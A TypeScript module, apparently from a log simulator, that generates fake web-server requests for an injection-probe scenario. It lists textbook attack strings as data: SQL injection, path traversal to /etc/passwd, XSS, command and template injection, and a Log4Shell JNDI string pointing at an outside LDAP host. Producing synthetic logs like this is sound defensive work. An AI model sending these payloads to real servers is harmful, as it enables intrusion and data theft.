import { oneByOne } from '../world.ts';
import { attackerAddress, toolAgents, type Attack } from './attack.ts';

const everyMs = 1_800;

/** Target and status: textbook strings that any rule set knows, none of which does anything. */
const probes = [
  ['/cari?q=%27%20OR%20%271%27=%271', 200],
  ['/partai?id=7%20UNION%20SELECT%20NULL,NULL--', 400],
  ['/partai?id=7%20AND%20SLEEP(5)', 400],
  ['/partai?id=7;select%20*%20from%20information_schema.tables', 403],
  ['/sipol/unduh?berkas=../../../../etc/passwd', 403],
  ['/sipol/unduh?berkas=%2e%2e%2f%2e%2e%2fetc%2fpasswd', 403],
  ['/cari?q=<script>alert(1)</script>', 200],
  ['/cari?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E', 200],
  ['/ping?host=127.0.0.1;cat%20/etc/hosts', 404],
  ['/halo?nama={{7*7}}', 404],
  ['/cgi-bin/.%2e/.%2e/bin/sh', 400],
  ['/cari?q="><b>', 200],
] as const;

/** A dozen probes for injection and path traversal, in the query mostly, from one address. */
export const injectionProbes: Attack = (world, at) => {
  const { random } = world;
  const address = attackerAddress(random);
  const agent = random.chance(0.3) ? '${jndi:ldap://198.51.100.9/a}' : random.pick(toolAgents);
  oneByOne(world, { at, everyMs, items: random.shuffle(probes) }, (when, [target, status]) =>
    world.request(when, { address, method: 'GET', target, status, bytes: 612, referrer: '-', agent }),
  );
};
